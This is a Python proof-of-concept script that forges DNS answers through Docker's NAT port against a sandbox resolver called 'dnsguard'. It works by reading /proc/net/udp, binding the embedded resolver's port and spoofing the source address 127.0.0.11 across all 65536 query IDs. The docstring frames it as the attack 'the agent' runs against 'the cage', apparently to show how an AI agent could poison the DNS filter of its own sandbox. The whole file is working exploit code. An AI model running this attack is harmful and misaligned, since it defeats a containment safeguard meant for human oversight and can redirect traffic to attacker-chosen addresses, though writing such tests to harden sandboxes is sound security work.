#!/usr/bin/env python3
"""The forged-upstream attack through Docker's NAT port, as the agent runs
it: no capability, only what /proc/net/udp shows every uid of the namespace.

usage: forge_via_nat.py NAME FORGED_ADDR LOOKUP_RESULT_FILE

Starts a lookup of NAME through the cage's resolver (dnsguard) in the
background, waits until dnsguard has a socket connected to Docker's embedded
resolver (127.0.0.11:53) for it, finds the resolver's real port R (root's
socket on 127.0.0.11), binds 127.0.0.1:R and sends, with the source set to
127.0.0.11 per packet (IP_PKTINFO), an answer "NAME A FORGED_ADDR" under
every one of the 65536 query IDs to each of dnsguard's upstream sockets:
conntrack would take them as the replies of dnsguard's flows. Prints what it
found and did; the lookup's result goes to LOOKUP_RESULT_FILE.
"""
import socket
import struct
import subprocess
import sys
import time

IP_PKTINFO = 8  # <linux/in.h>; Python 3.11 has no name for it


def udp_table():
    rows = []
    for line in open("/proc/net/udp").readlines()[1:]:
        f = line.split()
        rows.append((f[1], f[2], f[7]))  # local, remote, uid
    return rows


def main():
    name, forged, result_file = sys.argv[1], sys.argv[2], sys.argv[3]
    lookup = subprocess.Popen(["sh", "-c", f"getent ahostsv4 {name} | head -n1 > {result_file}"])
    # dnsguard's sockets to its upstream exist while the query is in flight
    # (or all the time, for a resolver that keeps them): poll for them.
    victims, resolver_ports, deadline = set(), set(), time.time() + 3
    seen_at = None
    while time.time() < deadline and (seen_at is None or time.time() < seen_at + 0.1):
        for local, remote, uid in udp_table():
            if remote == "0B00007F:0035":
                victims.add(int(local.split(":")[1], 16))
                seen_at = seen_at or time.time()
            if local.startswith("0B00007F:") and uid == "0":
                resolver_ports.add(int(local[9:], 16))
        time.sleep(0.005)
    victims = sorted(victims)
    print(f"found resolver ports {sorted(resolver_ports)}, dnsguard sockets {victims}")
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    body = (struct.pack("!HHHH", 1, 1, 0, 0) + qname + struct.pack("!HH", 1, 1) +
            b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(forged))
    source = struct.pack("i4s4s", 0, socket.inet_aton("127.0.0.11"), b"\0" * 4)
    sent, refused = 0, 0
    for port in sorted(resolver_ports):
        a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            a.bind(("127.0.0.1", port))
        except OSError as e:
            print(f"bind 127.0.0.1:{port}: {e.__class__.__name__}")
            continue
        for victim in victims:
            for qid in range(65536):
                msg = struct.pack("!HH", qid, 0x8180) + body
                try:
                    a.sendmsg([msg], [(socket.IPPROTO_IP, IP_PKTINFO, source)], 0, ("127.0.0.1", victim))
                    sent += 1
                except OSError:
                    refused += 1
        a.close()
    print(f"forged answers sent {sent}, refused at send {refused}")
    lookup.wait(timeout=15)


if __name__ == "__main__":
    main()
